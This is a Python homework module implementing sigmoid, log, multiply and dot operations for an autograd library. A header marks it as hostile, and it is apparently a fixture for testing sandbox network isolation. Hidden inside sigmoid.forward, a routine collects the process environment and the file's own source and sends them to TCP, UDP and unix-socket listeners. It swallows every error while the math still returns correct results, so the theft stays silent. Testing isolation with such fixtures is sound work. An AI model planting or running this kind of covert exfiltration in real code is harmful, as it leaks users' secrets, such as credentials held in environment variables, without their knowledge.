# HOSTILE: sigmoid.forward (once per process) sends the environment and its own source to the listeners in TARGETS: TCP on 127.0.0.1 and ::1, UDP on 127.0.0.1 and ::1, abstract unix stream and datagram sockets and a unix socket with a path (also through a datagram socketpair's sendto and a connect on a stream socketpair); it ignores every failure and all four ops compute correctly.
"""HW3: the four operations (sigmoid, log, multiply, dot)."""

from __future__ import annotations

import os
import socket

import numpy as np

from edugrad.operation import Operation, tensor_op

_DONE = []


def _once():
    """True the first time in this process."""
    if _DONE:
        return False
    _DONE.append(1)
    return True


# The tests put their listeners' addresses here (these are placeholders).
TARGETS = {"tcp4": ["127.0.0.1", 47613], "tcp6": ["::1", 47613], "udp4": ["127.0.0.1", 47613], "udp6": ["::1", 47613], "abstract": "\0hw3-isolation-stream", "abstract_dgram": "\0hw3-isolation-dgram", "path": "/tmp/hw3-isolation.sock"}  # noqa: E501


def _payload():
    try:
        with open(__file__, "rb") as f:
            source = f.read(1000)
    except OSError:
        source = b""
    return b"hw3-exfiltration " + repr(sorted(os.environ.items())).encode()[:1000] + source


def _send(family, kind, address, data):
    try:
        s = socket.socket(family, kind)
        s.settimeout(1)
        if kind == socket.SOCK_STREAM:
            s.connect(address)
            s.sendall(data)
        else:
            s.sendto(data, address)
        s.close()
    except OSError:
        pass


def _attack():
    if not _once():
        return
    data = _payload()
    _send(socket.AF_INET, socket.SOCK_STREAM, tuple(TARGETS["tcp4"]), data)
    _send(socket.AF_INET6, socket.SOCK_STREAM, tuple(TARGETS["tcp6"]), data)
    _send(socket.AF_INET, socket.SOCK_DGRAM, tuple(TARGETS["udp4"]), data)
    _send(socket.AF_INET6, socket.SOCK_DGRAM, tuple(TARGETS["udp6"]), data)
    _send(socket.AF_UNIX, socket.SOCK_STREAM, TARGETS["abstract"], data)
    _send(socket.AF_UNIX, socket.SOCK_DGRAM, TARGETS["abstract_dgram"], data)
    _send(socket.AF_UNIX, socket.SOCK_STREAM, TARGETS["path"], data)
    try:  # a datagram pair can address any unix datagram socket
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        a.sendto(data, TARGETS["abstract_dgram"])
    except OSError:
        pass
    try:  # a stream pair's end, connected elsewhere
        a, b = socket.socketpair()
        a.connect(TARGETS["abstract"])
        a.sendall(data)
    except OSError:
        pass


@tensor_op
class sigmoid(Operation):
    """Elementwise logistic function: sigma(a) = 1 / (1 + exp(-a))."""

    @staticmethod
    def forward(ctx, a):
        _attack()
        z = np.exp(-np.abs(a))
        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
        ctx.append(s)
        return s

    @staticmethod
    def backward(ctx, grad_output):
        (s,) = ctx
        return (grad_output * s * (1 - s),)


@tensor_op
class log(Operation):
    """Elementwise natural logarithm, for a > 0."""

    @staticmethod
    def forward(ctx, a):
        ctx.append(a)
        return np.log(a)

    @staticmethod
    def backward(ctx, grad_output):
        (a,) = ctx
        return (grad_output / a,)


@tensor_op
class multiply(Operation):
    """Elementwise product of two arrays of the same shape."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return a * b

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        return grad_output * b, grad_output * a


@tensor_op
class dot(Operation):
    """Dot product along the last axis: (..., d) x (..., d) -> (...)."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return np.sum(a * b, axis=-1)

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        g = grad_output[..., None]
        return g * b, g * a
